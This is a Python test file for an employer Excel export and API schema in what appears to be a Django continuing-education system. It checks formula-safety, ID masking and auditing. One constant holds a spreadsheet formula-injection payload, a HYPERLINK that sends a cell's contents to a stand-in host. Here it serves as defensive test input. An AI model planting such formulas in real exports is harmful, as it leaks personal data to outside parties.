"""The employer's Excel file is formula-safe and masked, the export is audited, and the API is in the OpenAPI
schema ("An Excel export (formula-safe)", "in the OpenAPI schema"; security item 46)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from employers.conftest import UNIT_A, give_credits
from kjzx.models import AuditEvent
from tests.factories import login_staff

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def test_the_export_keeps_typed_text_as_text_masks_ids_and_is_audited(client, employer_a, person_in, year_2026):
    """A unit name typed as a formula stays text; ID numbers are masked; the export is an audit row (PIPL)."""
    archive = person_in(UNIT_A, sequence=601, name="导出人",
                        data={"employer": {"credit_code": UNIT_A, "name": HOSTILE, "unit_type": "enterprise"}})
    give_credits(archive, 24)
    login_staff(client, employer_a)
    response = client.get("/employer/people.xlsx", {"year": 2026})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert row["工作单位"].value == HOSTILE and row["工作单位"].data_type == "s"
    assert row["证件号码"].value == archive.masked_id_number and archive.id_number not in str(
        [c.value for c in sheet[2]])
    assert (row["总学分"].value, row["尚差总学分"].value, row["继续教育"].value) == (24, 66, "未完成")
    assert not any(isinstance(c.value, str) and c.data_type == "f" for r in sheet.iter_rows() for c in r)
    event = AuditEvent.objects.get(event_type="employer.people_exported")
    assert (event.actor, event.extra) == (employer_a, {"year": 2026, "people": 1})


def test_the_employer_api_is_in_the_openapi_schema(client):
    """The three calls are documented, with their parameters and errors (API.md §1: "describes every endpoint")."""
    paths = client.get("/api/schema/?format=json").json()["paths"]
    people = paths["/api/v1/employer/people/"]["get"]
    assert {p["name"] for p in people["parameters"]} >= {"year", "page", "ce", "credit_code"}
    assert {"200", "400", "401", "403"} <= set(people["responses"])
    assert {"200", "404"} <= set(paths["/api/v1/employer/people/{id}/"]["get"]["responses"])
    assert {"201", "404", "409"} <= set(paths["/api/v1/employer/people/{id}/remind/"]["post"]["responses"])
